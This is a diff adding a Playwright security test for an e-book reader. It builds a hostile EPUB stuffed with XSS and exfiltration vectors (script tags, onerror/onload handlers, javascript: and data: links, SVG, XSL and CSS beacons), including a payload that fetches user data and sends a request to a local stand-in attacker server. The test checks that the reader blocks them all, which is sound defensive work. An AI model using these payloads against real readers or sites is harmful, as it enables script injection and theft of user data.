@@ -1,0 +1,136 @@
+/** Books whose makers mean harm: nothing in them runs, reaches the server, or tells anybody anything. */
+import { afterAll, beforeAll, expect, test } from 'bun:test'
+import type { Page } from 'playwright-core'
+import { until } from './harness'
+import { bookFrame, openTextRoom, type TextRoom, untilVisible } from './text-room'
+import type { tinyEpub } from './tiny-epub'
+
+const patience = 60_000
+let room: TextRoom
+let evil: ReturnType<typeof Bun.serve>
+const leaks: string[] = []
+
+beforeAll(async () => {
+  // Whatever a hostile book manages to send arrives here.
+  evil = Bun.serve({
+    port: 0,
+    hostname: '127.0.0.1',
+    fetch(request) {
+      leaks.push(new URL(request.url).pathname)
+      return new Response('')
+    },
+  })
+  room = await openTextRoom([hostileBook(evil.url.origin)])
+}, 120_000)
+
+afterAll(async () => {
+  await room?.close()
+  await evil?.stop(true)
+})
+
+/** Each vector tells the server at `origin` where it comes from, or marks the window. */
+function hostileBook(origin: string): Parameters<typeof tinyEpub>[0] {
+  const mark = `top.hacked = true; parent.hacked = true; new Image().src = '${origin}/script'; fetch('/api/v1/users').then((answer) => fetch('${origin}/stolen'))`
+  const html = `
+    <p>Chapter 1, paragraph 1. Nothing to see here.</p>
+    <script>${mark}</script><script src="evil.js"></script><script src="${origin}/remote.js"></script>
+    <img src="nothing.png" onerror="${mark}" alt=""/><img src="${origin}/image" alt=""/>
+    <img src="/api/v1/users" alt=""/>
+    <svg xmlns="http://www.w3.org/2000/svg" onload="${mark}"><script>${mark}</script></svg>
+    <iframe srcdoc="&lt;script&gt;top.hacked = true&lt;/script&gt;"></iframe>
+    <iframe src="${origin}/frame"></iframe><object data="${origin}/object"></object>
+    <embed src="${origin}/embed"/><link rel="stylesheet" href="${origin}/style.css"/>
+    <style>@import url('${origin}/import.css'); p { background: url('${origin}/background') }</style>
+    <form id="form" action="${origin}/form"><input name="a"/></form>
+    <p><a id="script-link" href="javascript:${mark.replaceAll('"', '')}">a link</a></p>
+    <p><a id="tab-link" href="c2.xhtml" target="_top">another</a></p>
+    <video src="${origin}/video" autoplay="autoplay" poster="${origin}/poster"></video>
+    <img srcset="${origin}/srcset 1x, ${origin}/srcset 2x" alt=""/>
+    <picture><source srcset="${origin}/source"/><img src="nothing.png" alt=""/></picture>
+    <style>@font-face { font-family: Evil; src: url('${origin}/font') } p { font-family: Evil }
+      p::before { content: url('${origin}/content') } body { cursor: url('${origin}/cursor'), auto }</style>
+    <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">
+      <foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="${mark}"><script>${mark}</script>
+        <img src="nothing.png" onerror="${mark}" alt=""/></body></foreignObject>
+      <image xlink:href="${origin}/drawing"/><use xlink:href="${origin}/use#a"/>
+      <a xlink:href="javascript:${mark.replaceAll('"', '')}"><text id="drawn-link">drawn</text></a>
+      <set attributeName="href" onbegin="${mark}" begin="0s" to="x"/></svg>
+    <iframe src="data:text/html,&lt;script&gt;top.hacked = true&lt;/script&gt;"></iframe>
+    <object data="data:text/html,&lt;script&gt;top.hacked = true&lt;/script&gt;"></object>
+    <link rel="prefetch" href="${origin}/prefetch"/><link rel="preload" as="image" href="${origin}/preload"/>
+    <link rel="icon" href="${origin}/icon"/><link rel="preconnect" href="${origin}"/>
+    <p><a id="data-link" href="data:text/html,&lt;script&gt;top.hacked = true&lt;/script&gt;" target="_top">data</a></p>
+    <p><a id="ping-link" href="c3.xhtml" ping="${origin}/ping">ping</a></p>
+    <form id="self-form" action="javascript:top.hacked = true" target="_top"><button id="send" formaction="${origin}/formaction">send</button></form>`
+  const refresh = `<meta http-equiv="refresh" content="0;url=${origin}/refresh"/><p>Chapter 2.</p>`
+  const unclosed = `<p>Chapter 3. <b>Unclosed</p><script>${mark}</script><img src="${origin}/unclosed" onerror="${mark}">`
+  const chapters = [
+    { title: 'One', html, head: `<base href="${origin}/base/" target="_top"/>` },
+    { title: 'Two', html: refresh },
+    { title: 'Three', html: unclosed },
+    { title: 'Four', html: '<p>Chapter 4.</p>', prologue: sheets(origin) },
+    { title: 'Five', html: '<p>Chapter 5. The last.</p>' },
+  ]
+  const files = { 'OEBPS/evil.js': mark, 'OEBPS/evil.xsl': transformation(mark) }
+  return { title: 'Hostile', chapters, files }
+}
+
+/** Sheets that would rewrite the whole document. */
+const sheets = (origin: string) =>
+  `<?xml-stylesheet type="text/xsl" href="evil.xsl"?><?xml-stylesheet type="text/xsl" href="${origin}/sheet.xsl"?><?xml-stylesheet type="text/css" href="${origin}/sheet.css"?>`
+
+const transformation = (script: string) =>
+  `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title></head><body><p>Rewritten.</p><script>${script}</script></body></html></xsl:template></xsl:stylesheet>`
+
+const isHacked = (page: Page) => page.evaluate(() => 'hacked' in window)
+
+test(
+  'a hostile e-book runs nothing, reaches nothing, and sends nothing',
+  async () => {
+    const seen = await room.signedIn({ mayBreakRules: true })
+    const { page } = seen
+    // What the policy stops is asked for all the same; only what is answered has left the browser.
+    const answered: string[] = []
+    page.on('response', (answer) => void answered.push(new URL(answer.url()).pathname))
+    await room.open(seen, 'Hostile')
+    await untilVisible(page, 'Chapter 1, paragraph 1')
+    const frame = bookFrame(page)!
+    await frame.evaluate(() => {
+      for (const form of document.querySelectorAll('form')) form.submit()
+      for (const id of ['script-link', 'data-link', 'drawn-link', 'send']) {
+        document.getElementById(id)?.dispatchEvent(new MouseEvent('click', { bubbles: true }))
+      }
+    })
+    await page.getByRole('button', { name: 'Search in this book' }).click()
+    await page.getByRole('searchbox').fill('Chapter')
+    await page.keyboard.press('Enter')
+    await page.getByText(/^\d+ places$/).waitFor()
+    await page.getByRole('button', { name: 'Contents' }).click()
+    for (const [title, words] of chapters) {
+      await page.getByRole('button', { name: title }).click()
+      await until(async () => {
+        const text = await bookFrame(page)
+          ?.evaluate(() => document.body.textContent)
+          // Between two parts there is no frame to ask.
+          .catch(() => undefined)
+        return text?.includes(words) === true
+      }, `${words} is there`)
+      await page.waitForLoadState('networkidle')
+    }
+    expect(await isHacked(page)).toBe(false)
+    expect(page.url()).toContain(`/read/${room.idOf('Hostile')}`)
+    expect(leaks).toEqual([])
+    expect(answered.filter((path) => path.startsWith('/api/v1/users'))).toEqual([])
+    expect(answered.filter((path) => /evil\.(js|xsl)$/.test(path))).toEqual([])
+    await seen.context.close()
+  },
+  patience,
+)
+
+/** The last one is there for the time that the others would need. */
+const chapters = [
+  ['Two', 'Chapter 2.'],
+  ['Three', 'Chapter 3.'],
+  ['Four', 'Chapter 4.'],
+  ['Five', 'Chapter 5.'],
+] as const
